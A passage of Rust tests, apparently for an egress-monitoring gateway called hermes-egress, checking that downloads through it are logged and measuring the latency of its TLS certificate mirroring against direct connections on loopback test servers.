    let (to_plain, _b) = listen(plain).await;
    let mut socket = tokio::net::TcpStream::connect(to_plain)
        .await
        .expect("connect");
    socket
        .write_all(b"GET /p HTTP/1.1\r\nHost: dropper.test\r\n\r\n")
        .await
        .expect("send");
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(20), socket.read_to_end(&mut answer)).await;
    assert!(!answer.is_empty(), "{:?}", rig.events.all());
    assert_eq!(body_of(&answer), b"in clear\n");

    let downloads = rig.events.wait_for_count(EventId::FileDownload, 2).await;
    let urls: Vec<String> = downloads.iter().map(|e| text(e, "url")).collect();
    assert!(
        urls.contains(&"https://dropper.test/t".to_owned()),
        "{urls:?}"
    );
    assert!(
        urls.contains(&"http://dropper.test/p".to_owned()),
        "{urls:?}"
    );
}

/// The median of `times`.
fn median(times: &mut [Duration]) -> Duration {
    times.sort_unstable();
    times[times.len() / 2]
}

/// What mirroring costs: an HTTPS fetch through the gateway from a server whose
/// certificate verifies (the sensor's leaf shown, kept per name) against one whose
/// does not (its mirror shown, kept per certificate), and straight to the server;
/// and minting a mirror. In-process, loopback, 100 KB body: `cargo nextest run -p
/// hermes-egress --run-ignored only mirror_costs`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "a measurement: prints the figures, run on purpose"]
async fn measure_what_mirror_costs() {
    const RUNS: usize = 100;
    let web = test_ca();
    let body: Vec<u8> = (0..100_000u32).map(|i| (i % 251) as u8).collect();
    let trusted = server(web.leaf(&["dropper.test"]), body.clone()).await;
    let bogus = self_signed(&["dropper.test"]);
    let bogus_der = bogus.der.clone();
    let untrusted = server(bogus, body.clone()).await;
    let limits = |config: &mut EgressConfig| {
        config.limits.fetches_per_session = 10_000;
        config.limits.session_bytes = hermes_core::config::ByteSize::gib(1);
    };
    let ports = [trusted.address.port(), untrusted.address.port()];
    let rig = rig_with(&ports, true, std::slice::from_ref(&web.der), limits);
    let lax = crate::tls::client_config().expect("a client that does not check");

    let mut through_leaf = Vec::new();
    let mut through_mirror = Vec::new();
    let mut direct = Vec::new();
    let mut roots = rustls::RootCertStore::empty();
    roots.add_parsable_certificates([web.der.clone()]);
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let straight = Arc::new(
        rustls::ClientConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()
            .expect("versions")
            .with_root_certificates(roots)
            .with_no_client_auth(),
    );
    for _ in 0..RUNS {
        let started = std::time::Instant::now();
        let answer = rig
            .fetch(trusted.address, dns("dropper.test"), &rig.sensor_ca(), "/m")
            .await
            .expect("through the sensor's leaf");
        through_leaf.push(started.elapsed());
        assert_eq!(body_of(&answer), body.as_slice());

        let started = std::time::Instant::now();
        let (answer, _) = rig
            .fetch_with(
                untrusted.address,
                dns("dropper.test"),
                Arc::clone(&lax),
                "/m",
            )
            .await
            .expect("through the mirror");
        through_mirror.push(started.elapsed());
        assert_eq!(body_of(&answer), body.as_slice());

        let started = std::time::Instant::now();
        let tcp = tokio::net::TcpStream::connect(trusted.address)
            .await
            .expect("connect");
        let mut tls = tokio_rustls::TlsConnector::from(Arc::clone(&straight))
            .connect(dns("dropper.test"), tcp)
            .await
            .expect("straight");
        tls.write_all(b"GET /m HTTP/1.1\r\nHost: dropper.test\r\n\r\n")
            .await
            .expect("send");
        let mut answer = Vec::new();
        let _ = tls.read_to_end(&mut answer).await;
        direct.push(started.elapsed());
        assert_eq!(body_of(&answer), body.as_slice());
    }
    rig.events
        .wait_for_count(EventId::FileDownload, 2 * RUNS)
        .await;

    let mut minting = Vec::new();
    for _ in 0..RUNS {
        let started = std::time::Instant::now();
        crate::tls::mirror_for_measurement(&bogus_der).expect("mirror");
        minting.push(started.elapsed());
    }
    eprintln!(
        "median of {RUNS}: through the sensor's leaf {:?}, through a mirror {:?}, straight {:?}; minting a mirror {:?}",
        median(&mut through_leaf),
        median(&mut through_mirror),
        median(&mut direct),
        median(&mut minting),
    );
}
